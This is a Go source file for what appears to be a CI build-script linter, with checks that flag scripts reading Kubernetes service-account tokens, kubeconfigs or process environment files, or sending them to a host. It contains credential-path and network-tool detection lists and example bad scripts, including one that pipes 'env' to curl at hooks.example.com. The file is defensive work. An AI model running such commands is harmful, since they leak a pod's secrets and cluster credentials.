package supply

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
	"taskgate.dev/taskgate/pkg/check"
	"taskgate.dev/taskgate/pkg/rules/script"
)

// credentialPaths are files holding the pod's credentials: the service
// account token Kubernetes mounts (not its namespace or ca.crt beside
// it), kubeconfigs, and the environment of a process (every secretKeyRef
// env lands there).
var credentialPaths = []string{
	"/secrets/kubernetes.io/serviceaccount/token",
	"/secrets/eks.amazonaws.com/serviceaccount/token",
	".kube/config",
	"/proc/self/environ",
	"/proc/1/environ",
}

func credentialPath(s string) string {
	for _, c := range credentialPaths {
		if strings.Contains(s, c) {
			return c
		}
	}
	return ""
}

// ClusterCredentials finds scripts that read the pod's service-account
// token or a kubeconfig: a Task in a tenant's build has no business with
// the tenant's cluster identity.
var ClusterCredentials = &check.Check{
	ID:       "supply/cluster-credentials",
	Doc:      "a script reads the pod's service-account token, a kubeconfig or a process environment file",
	Severity: check.Error,
	Help:     "a build Task must not use the cluster identity of the tenant's pod: take what the Task needs as a declared workspace or an optional secret (and skip cleanly without it); maintainers may waive a Task whose job is the cluster",
	Bad: example("whoami", `#!/bin/sh
TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
curl -sS -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api
`),
	Fixed: example("whoami", `#!/bin/sh
echo "this Task needs no cluster access"
`),
	Requires: []*check.Input{script.Parsed},
	Run:      func(pass *check.Pass) []check.Finding { return each(pass, clusterCredentials) },
}

func clusterCredentials(p parsed) []check.Finding {
	var out []check.Finding
	seen := map[int]bool{}
	syntax.Walk(p.file, func(n syntax.Node) bool {
		w, ok := n.(*syntax.Word)
		if !ok {
			return true
		}
		c := credentialPath(lit(w))
		if c == "" || seen[int(w.Pos().Line())] {
			return true
		}
		seen[int(w.Pos().Line())] = true
		out = append(out, p.at(w, "%s reads %s, the credentials of the pod that runs every tenant's build", p.sc.Where, c))
		return true
	})
	return out
}

// Exfiltration finds the environment or credential files sent to a host.
var Exfiltration = &check.Check{
	ID:       "supply/exfiltration",
	Doc:      "a script sends the environment (`env`, `printenv`), the service-account token or a kubeconfig to a host (curl, wget, nc, socat)",
	Severity: check.Error,
	Help:     "send only the data the Task exists to send, named one by one; never the whole environment (it holds every secret of the step) or the pod's credentials",
	Bad: example("notify", `#!/bin/sh
env | curl -sS -X POST --data-binary @- https://hooks.example.com/build
`),
	Fixed: example("notify", `#!/bin/sh
curl -sS -X POST -d "status=done" https://hooks.example.com/build
`),
	Requires: []*check.Input{script.Parsed},
	Run:      func(pass *check.Pass) []check.Finding { return each(pass, exfiltration) },
}

var senders = map[string]bool{"curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true}

// dumps says what secret material a command prints: the whole
// environment, or a credential file.
func dumps(c *command) string {
	switch c.name {
	case "env", "printenv":
		if len(c.args) == 0 {
			return "the whole environment (`" + c.name + "`)"
		}
	case "set", "export", "declare":
		if len(c.args) == 0 || (len(c.args) == 1 && lit(c.args[0]) == "-p") {
			return "the whole environment (`" + c.name + "`)"
		}
	case "cat", "base64", "gzip", "tar", "head", "tail", "jq":
		for _, w := range c.args {
			if cp := credentialPath(lit(w)); cp != "" {
				return cp
			}
		}
	}
	return ""
}

// toCluster: the pod's own API server is where its token belongs.
func toCluster(c *command) bool {
	for _, w := range c.args {
		a := lit(w)
		if strings.Contains(a, "kubernetes.default") || strings.Contains(a, "KUBERNETES_SERVICE_HOST") || strings.Contains(a, "KUBERNETES_PORT") {
			return true
		}
	}
	return false
}

func exfiltration(p parsed) []check.Finding {
	var out []check.Finding
	pipelines(p.file, func(ss []*syntax.Stmt) {
		what := ""
		for _, st := range ss {
			c := callOf(st)
			if c == nil {
				continue
			}
			if d := dumps(c); d != "" {
				what = d
				continue
			}
			if what != "" && senders[c.name] && !toCluster(c) {
				out = append(out, p.at(st, "%s sends %s to a host with %s", p.sc.Where, what, c.name))
				return
			}
		}
	})
	syntax.Walk(p.file, func(n syntax.Node) bool {
		st, ok := n.(*syntax.Stmt)
		if !ok {
			return true
		}
		c := callOf(st)
		if c == nil || !senders[c.name] || toCluster(c) {
			return true
		}
		// `nc host < token`, `curl -d @token`, `curl -d "$(env)"`
		for _, r := range st.Redirs {
			if r.Op == syntax.RdrIn && r.Word != nil {
				if cp := credentialPath(lit(r.Word)); cp != "" {
					out = append(out, p.at(st, "%s sends %s to a host with %s", p.sc.Where, cp, c.name))
				}
			}
		}
		for i, w := range c.args {
			a := lit(w)
			upload := i > 0 && (lit(c.args[i-1]) == "-T" || lit(c.args[i-1]) == "--upload-file")
			if cp := credentialPath(a); cp != "" && (strings.Contains(a, "@") || upload) {
				out = append(out, p.at(w, "%s sends %s to a host with %s", p.sc.Where, cp, c.name))
				continue
			}
			for _, stmts := range substs(w) {
				for _, s := range stmts {
					for _, stage := range stages(s) {
						if sc := callOf(stage); sc != nil {
							if d := dumps(sc); d != "" {
								out = append(out, p.at(w, "%s sends %s to a host with %s", p.sc.Where, d, c.name))
							}
						}
					}
				}
			}
		}
		return true
	})
	return out
}
